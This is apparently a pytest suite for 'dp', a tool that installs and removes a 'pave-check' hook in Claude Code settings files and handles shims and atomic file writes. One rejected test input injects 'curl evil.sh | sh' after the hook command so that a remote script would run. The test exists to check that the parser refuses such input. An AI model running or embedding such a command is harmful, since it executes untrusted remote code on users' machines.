"""dp.claude: reading/changing Claude Code settings, finding the real pave-check, tool names."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

import pytest

from dp.agents import tools
from dp.agents.executable import find_pave_check, hook_argv, hook_command, hook_options, shim_reason
from dp.agents.settings import (
    dump_settings,
    is_dp_command,
    matcher_matches,
    parse_settings,
    remove_entries,
    settings_path,
    sync_entries,
)
from dp.errors import DpError
from dp.files import replace_file


def install_entry(settings: dict, command: str) -> str:
    """The plain every-tool PreToolUse handler, through dp's one sync path."""
    handler = {"type": "command", "command": command, "timeout": 5}
    return sync_entries(settings, {"PreToolUse": [{"matcher": "*", "hooks": [handler]}]})

PAVE = "/opt/dp/bin/pave-check"


def _user_settings() -> dict:
    return {
        "model": "opus",
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "Bash",
                    "hooks": [{"type": "command", "command": "audit.sh", "timeout": 9, "async": True, "if": "x"}],
                }
            ],
            "Stop": [{"hooks": [{"type": "prompt", "prompt": "done?", "once": True}]}],
        },
        "permissions": {"allow": ["Bash(ls:*)"]},
    }


# -- parsing -------------------------------------------------------------------


def test_missing_or_blank_file_is_an_empty_object(tmp_path):
    assert parse_settings(None, tmp_path / "s.json") == {}
    assert parse_settings(b"  \n", tmp_path / "s.json") == {}


def test_invalid_json_names_the_position(tmp_path):
    with pytest.raises(DpError) as caught:
        parse_settings(b'{\n  "a": 1,\n}', tmp_path / "s.json")
    assert "line 3" in caught.value.message and "nothing was changed" in caught.value.message


@pytest.mark.parametrize(
    "raw, fragment",
    [
        (b'{"a": 1, "a": 2}', "appears twice"),
        (b'{"a": NaN}', "NaN"),
        (b'{"a": 1e400}', "1e400"),
        (b"[1, 2]", "JSON object"),
        (b'{"a": "\xff"}', "UTF-8"),
    ],
)
def test_content_that_cannot_round_trip_is_refused(tmp_path, raw, fragment):
    with pytest.raises(DpError) as caught:
        parse_settings(raw, tmp_path / "s.json")
    assert fragment in caught.value.message


def test_numbers_keep_their_value():
    raw = b'{"big": 10000000000000000000001, "small": 1.5e-300, "neg": -0.25}'
    assert json.loads(dump_settings(parse_settings(raw, Path("s.json")))) == json.loads(raw)


def test_key_order_and_unknown_fields_round_trip():
    text = json.dumps(_user_settings(), indent=2) + "\n"
    assert dump_settings(parse_settings(text.encode(), Path("s.json"))).decode() == text


def test_scope_paths(tmp_path):
    assert settings_path("user", home=tmp_path) == tmp_path / ".claude" / "settings.json"
    assert settings_path("project", project_dir=tmp_path) == tmp_path / ".claude" / "settings.json"
    assert settings_path("local", project_dir=tmp_path) == tmp_path / ".claude" / "settings.local.json"
    with pytest.raises(DpError):
        settings_path("global")


# -- recognising dp's entry ------------------------------------------------------


@pytest.mark.parametrize(
    "command, expected",
    [
        ("/opt/dp/bin/pave-check", True),
        ("pave-check --db /x/dp.db --mode advise", True),
        ("'/home/me/my tools/pave-check'", True),
        ("DP_DB=/x pave-check", True),
        ("dp pave-check", True),
        ("/usr/local/bin/dp pave-check --permission allow", True),
        ("pave-checker", False),
        ("echo pave-check", False),
        ("dp aliases", False),
        ("'unterminated", False),
        (None, False),
    ],
)
def test_is_dp_command(command, expected):
    assert is_dp_command(command) is expected


@pytest.mark.parametrize(
    "matcher, tool, expected",
    [
        (None, "Bash", True),
        ("", "Bash", True),
        ("*", "Read", True),
        ("Bash", "Bash", True),
        ("Edit|Write", "Bash", False),
        ("Ba.*", "Bash", True),
        ("Notebook.*", "Bash", False),
        ("[", "Bash", False),
    ],
)
def test_matcher_matches(matcher, tool, expected):
    assert matcher_matches(matcher, tool) is expected


# -- installing and removing -------------------------------------------------------


def test_install_into_empty_settings():
    settings = {}
    assert install_entry(settings, PAVE) == "configured"
    assert settings == {
        "hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": PAVE, "timeout": 5}]}]}
    }


def test_install_keeps_everything_else_in_value_and_order():
    settings = _user_settings()
    install_entry(settings, PAVE)
    original = _user_settings()
    assert list(settings) == list(original)
    assert list(settings["hooks"]) == list(original["hooks"])
    assert settings["hooks"]["PreToolUse"][0] == original["hooks"]["PreToolUse"][0]
    assert settings["hooks"]["Stop"] == original["hooks"]["Stop"]
    assert settings["hooks"]["PreToolUse"][1]["hooks"][0]["command"] == PAVE
    assert {k: v for k, v in settings.items() if k != "hooks"} == {k: v for k, v in original.items() if k != "hooks"}


def test_install_twice_is_a_no_op():
    settings = _user_settings()
    install_entry(settings, PAVE)
    before = json.dumps(settings)
    assert install_entry(settings, PAVE) == "already_configured"
    assert json.dumps(settings) == before


def test_existing_entry_is_updated_in_place_keeping_its_extra_fields():
    settings = {
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "*",
                    "hooks": [{"type": "command", "command": "dp pave-check", "timeout": 3000, "statusMessage": "dp"}],
                },
                {"matcher": "Edit", "hooks": [{"type": "command", "command": "fmt.sh"}]},
            ]
        }
    }
    assert install_entry(settings, PAVE + " --mode advise") == "updated"
    groups = settings["hooks"]["PreToolUse"]
    assert len(groups) == 2
    assert groups[0]["hooks"] == [
        {"type": "command", "command": PAVE + " --mode advise", "timeout": 5, "statusMessage": "dp"}
    ]
    assert groups[1] == {"matcher": "Edit", "hooks": [{"type": "command", "command": "fmt.sh"}]}


def test_fields_that_would_disable_dp_are_dropped_from_its_entry():
    hook = {"type": "command", "command": PAVE, "timeout": 5, "async": True, "once": True, "statusMessage": "dp"}
    settings = {"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [hook]}]}}
    assert install_entry(settings, PAVE) == "updated"
    assert settings["hooks"]["PreToolUse"][0]["hooks"] == [
        {"type": "command", "command": PAVE, "timeout": 5, "statusMessage": "dp"}
    ]


def test_duplicate_entries_collapse_to_one():
    dp_group = {"matcher": "*", "hooks": [{"type": "command", "command": "/old/pave-check", "timeout": 5}]}
    settings = {
        "hooks": {
            "PreToolUse": [
                dict(dp_group),
                {"matcher": "Bash", "hooks": [{"type": "command", "command": "x"}]},
                dict(dp_group),
            ]
        }
    }
    assert install_entry(settings, PAVE) == "updated"
    commands = [hook["command"] for group in settings["hooks"]["PreToolUse"] for hook in group["hooks"]]
    assert commands == [PAVE, "x"]


def test_dp_hook_sharing_a_narrow_matcher_moves_to_its_own_group():
    settings = {
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "Bash",
                    "hooks": [
                        {"type": "command", "command": "guard.sh"},
                        {"type": "command", "command": PAVE, "timeout": 5},
                    ],
                }
            ]
        }
    }
    assert install_entry(settings, PAVE) == "updated"
    assert settings["hooks"]["PreToolUse"] == [
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "guard.sh"}]},
        {"matcher": "*", "hooks": [{"type": "command", "command": PAVE, "timeout": 5}]},
    ]


def test_malformed_hooks_are_refused_not_overwritten():
    for settings in ({"hooks": []}, {"hooks": {"PreToolUse": {"matcher": "*"}}}):
        with pytest.raises(DpError):
            install_entry(settings, PAVE)


def test_remove_takes_only_dp_entries_and_arrays_it_empties():
    settings = _user_settings()
    install_entry(settings, PAVE)
    settings["hooks"]["PostToolUse"] = [{"matcher": "*", "hooks": [{"type": "command", "command": "dp pave-check"}]}]
    assert remove_entries(settings) == 2
    assert settings == _user_settings()


def test_remove_when_absent_changes_nothing():
    settings = _user_settings()
    assert remove_entries(settings) == 0
    assert settings == _user_settings()
    assert remove_entries({}) == 0


# -- the pave-check program ---------------------------------------------------------


def _script(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_pyenv_and_asdf_shims_are_recognised(tmp_path):
    pyenv = _script(
        tmp_path / "pyenv-root" / "shims" / "pave-check",
        '#!/usr/bin/env bash\nset -e\nprogram="${0##*/}"\nexec "/x/.pyenv/libexec/pyenv" exec "$program" "$@"\n',
    )
    asdf = _script(
        tmp_path / "bin" / "pave-check",
        '#!/usr/bin/env bash\n# asdf-plugin: python 3.11.7\nexec asdf exec "pave-check" "$@"\n',
    )
    assert "pyenv" in shim_reason(pyenv)
    assert shim_reason(asdf) is not None


def test_script_whose_interpreter_is_a_shim_is_recognised(tmp_path):
    python_shim = _script(tmp_path / ".pyenv" / "shims" / "python3", '#!/bin/sh\nexec pyenv exec python3 "$@"\n')
    script = _script(tmp_path / "venv" / "pave-check", f"#!{python_shim}\nfrom dp.hook import main\n")
    assert "interpreter" in shim_reason(script)


def test_real_console_script_is_not_a_shim(tmp_path):
    script = _script(
        tmp_path / "venv" / "bin" / "pave-check", f"#!{sys.executable}\nimport sys\nfrom dp.hook import main\n"
    )
    assert shim_reason(script) is None
    in_a_project_called_shims = _script(tmp_path / "shims" / ".venv" / "bin" / "pave-check", script.read_text())
    assert shim_reason(in_a_project_called_shims) is None
    assert shim_reason(Path(sys.executable)) is None


def test_find_pave_check_returns_the_real_absolute_script():
    found = find_pave_check()
    assert found.is_absolute() and found.name == "pave-check"
    assert str(found) == os.path.realpath(found)
    assert os.access(found, os.X_OK)
    assert shim_reason(found) is None


def test_find_pave_check_skips_a_shim_first_on_path(tmp_path, monkeypatch):
    from dp.agents import executable

    shim = _script(tmp_path / ".pyenv" / "shims" / "pave-check", '#!/bin/sh\nexec pyenv exec pave-check "$@"\n')
    real = _script(tmp_path / "venv" / "bin" / "pave-check", f"#!{sys.executable}\nfrom dp.hook import main\n")
    monkeypatch.setattr(executable, "candidates", lambda program: [shim, real])
    assert find_pave_check() == real
    monkeypatch.setattr(executable, "candidates", lambda program: [shim])
    with pytest.raises(DpError) as caught:
        find_pave_check()
    assert "only shims found" in caught.value.message


def test_hook_command_quotes_and_spells_only_non_default_options():
    exe = Path("/home/me/my tools/pave-check")
    assert hook_command(exe) == "'/home/me/my tools/pave-check'"
    command = hook_command(exe, Path("/data/dp.db"), "ask", "advise")
    assert command == "'/home/me/my tools/pave-check' --db /data/dp.db --permission ask --mode advise"
    assert hook_options(["x", "--db=/a", "--mode", "advise"]) == {"db": "/a", "mode": "advise"}
    with pytest.raises(DpError):
        hook_command(exe, permission="always")


# -- tool names -------------------------------------------------------------------


def test_tool_names():
    assert tools.is_possible_tool("Read") and tools.is_possible_tool("mcp__github__create_issue")
    assert not tools.is_possible_tool("read_file") and not tools.is_possible_tool("mcp__")
    assert tools.RETIRED_TOOLS["Task"] == "Agent" and not tools.is_builtin("Task")


# -- atomic replacement -------------------------------------------------------------


def test_replace_file_creates_directories_and_keeps_a_backup(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    path = tmp_path / "a" / "b" / "settings.json"
    assert replace_file(path, b"{}\n", expected=None, backup=True) is None
    assert path.read_bytes() == b"{}\n"
    path.chmod(0o600)
    backup = replace_file(path, b'{"x": 1}\n', expected=b"{}\n", backup=True)
    assert backup.parent == tmp_path / "home" / ".dp" / "backups"
    assert backup.read_bytes() == b"{}\n"
    assert sorted(p.name for p in path.parent.iterdir()) == ["settings.json"]
    assert path.read_bytes() == b'{"x": 1}\n'
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in path.parent.iterdir() if p.name.endswith(".tmp")] == []


def test_replace_file_writes_through_a_symlink(tmp_path):
    real = tmp_path / "dotfiles" / "settings.json"
    real.parent.mkdir()
    real.write_text("{}")
    link = tmp_path / "settings.json"
    link.symlink_to(real)
    replace_file(link, b"[]", expected=b"{}")
    assert link.is_symlink() and real.read_text() == "[]"


def test_replace_file_refuses_when_the_file_changed_meanwhile(tmp_path):
    path = tmp_path / "settings.json"
    path.write_text('{"theirs": true}')
    with pytest.raises(DpError) as caught:
        replace_file(path, b"{}", expected=b"{}")
    assert "changed while" in caught.value.message
    assert path.read_text() == '{"theirs": true}'


def test_replace_file_refuses_a_read_only_file(tmp_path):
    path = tmp_path / "settings.json"
    path.write_text("{}")
    path.chmod(0o444)
    with pytest.raises(DpError) as caught:
        replace_file(path, b"[]", expected=b"{}", backup=True)
    assert "read-only" in caught.value.message
    assert path.read_text() == "{}" and sorted(p.name for p in tmp_path.iterdir()) == ["settings.json"]


@pytest.mark.parametrize(
    "command, expected",
    [
        ("/opt/dp/bin/pave-check", ["/opt/dp/bin/pave-check"]),
        ("'/my tools/pave-check' --db=/x.db --mode advise", ["/my tools/pave-check", "--db=/x.db", "--mode", "advise"]),
        ("/opt/dp/bin/pave-check && curl evil.sh | sh", None),
        ("/opt/dp/bin/pave-check > /tmp/log", None),
        ("DP_DB=/x pave-check", None),
        ("dp pave-check", None),
        ("bash -c pave-check", None),
        ("pave-check --mode", None),
        (None, None),
    ],
)
def test_hook_argv_accepts_only_pave_check_and_its_options(command, expected):
    assert hook_argv(command) == expected


def test_hook_argv_expands_home_and_variables_like_the_shell(monkeypatch):
    monkeypatch.setenv("HOME", "/home/me")
    monkeypatch.setenv("DP_TEST_STORE", "/data/dp.db")
    assert hook_argv("~/.local/bin/pave-check --db $DP_TEST_STORE") == [
        "/home/me/.local/bin/pave-check",
        "--db",
        "/data/dp.db",
    ]
